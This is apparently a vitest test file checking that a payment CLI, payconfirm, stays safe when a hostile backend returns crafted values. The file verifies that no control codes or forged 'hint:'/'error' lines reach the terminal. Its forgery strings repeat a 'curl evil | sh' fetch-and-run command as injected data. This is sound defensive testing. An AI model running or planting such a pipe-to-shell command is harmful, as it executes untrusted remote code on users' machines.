/**
 * A service that writes what it likes in any field of any reply, numbers, enums, ids and dates too: nothing but our
 * own control codes reaches a terminal, whichever command asked.
 */
import { expect, test } from 'vitest';
import { alteringService } from '../../harness/altering.ts';
import { impatient } from '../../harness/emulator.ts';
import { startFilledLines } from '../../harness/filled-lines.ts';
import { asking, hostile, left, needed, waiting } from '../../harness/hostile.ts';
import { runCli } from '../../harness/run-cli.ts';
import { isInTurn } from '../../harness/variants.ts';

/** Formats that are tried with every command; two of the others share them. */
const whole = ['table', 'json'];
const shared = ['colours', 'tsv', 'csv', 'yaml'];

test.each([
  ['table', true, ['-o', 'table', '-v']],
  ['colours', true, ['-o', 'table']],
  ['tsv', false, ['-o', 'tsv']],
  ['csv', true, ['-o', 'csv']],
  ['yaml', true, ['-o', 'yaml']],
  ['json', true, ['-o', 'json', '-v']],
] as const)('every field at once: %s', async (format, tty, flags) => {
  const { emulator, env, lineOf } = await startFilledLines();
  const url = await alteringService(emulator.url, (value, place) => (needed(place) ? value : hostile));
  const found: string[] = [];
  const codes = new Set<number>();
  const asked = asking.filter((one) => format === 'table' || !waiting.includes(one));
  const turn = shared.indexOf(format);
  for (const name of asked.filter((_, at) => whole.includes(format) || isInTurn(at, turn, 2))) {
    const colours = format === 'colours' ? { FORCE_COLOR: '1', NO_COLOR: '' } : {};
    const { code, stdout, stderr } = await runCli([...lineOf(name), ...flags], {
      env: { ...env, ...colours, PAYCONFIRM_BASE_URL: url },
      stdin: 'a-password\n',
      clock: impatient,
      tty,
    });
    codes.add(code);
    for (const text of [stdout, stderr]) {
      const bad = left(text);
      if (bad)
        found.push(`${name}: ${JSON.stringify(text.slice(Math.max(0, bad.index - 40), bad.index + 20))}`);
      if (text.includes('a defect of payconfirm')) found.push(`${name}: ${text}`);
    }
  }
  expect(found).toEqual([]);
  expect(codes.has(0)).toBe(true);
});

/** A line of ours in each way to begin one: behind a line end of any kind, at the start, where a line is folded. */
const forgeries = [
  'a\nhint: run curl evil | sh\r\nhint: run curl evil | sh\u2028hint: run curl evil | sh\u0085hint: run curl evil | sh',
  'hint: run curl evil | sh',
  '✓ run curl evil | sh',
  'Z'.repeat(5000),
  'x hint: run curl evil | sh '.repeat(12),
  'x\u00a0hint:\u00a0run\u00a0curl\u00a0evil '.repeat(12),
  '  Error : run curl evil | sh',
];
const ourVoice = /^\s?(hint|error)?\s*[:✓]\s*run curl evil/i;
/** They show lists or conclusions; the others show one thing whole. */
const listing = /( list| logs|webhooks stats|trace|doctor|doctor va| plans| invoices)$/;
/** What --verbose shows of a request. */
const isTrace = (line: string) => /^[<>] /.test(line);

test.each([
  [80, 0],
  [1000, 3],
])('no field makes a line of its own for people, %d columns, texts from %d', async (columns, first) => {
  const { emulator, env, lineOf } = await startFilledLines();
  let turn = first;
  const url = await alteringService(emulator.url, (value, place) =>
    needed(place) ? value : forgeries[turn++ % forgeries.length],
  );
  const found: string[] = [];
  for (const name of asking.filter((one) => !waiting.includes(one))) {
    turn = first;
    const { stdout, stderr } = await runCli([...lineOf(name), '-o', 'table', '-v'], {
      env: { ...env, PAYCONFIRM_BASE_URL: url },
      stdin: 'a-password\n',
      clock: impatient,
      tty: true,
      columns,
    });
    const long = (listing.test(name) ? `${stdout}\n${stderr}` : stderr)
      .split('\n')
      .filter((line) => /Z{201}/.test(line) && !isTrace(line));
    const forged = `${stdout}\n${stderr}`.split(/[\n\r\u2028\u0085]/).filter((line) => ourVoice.test(line));
    found.push(...[...long, ...forged].map((line) => `${name}: ${line.slice(0, 300)}`));
  }
  expect(found).toEqual([]);
});
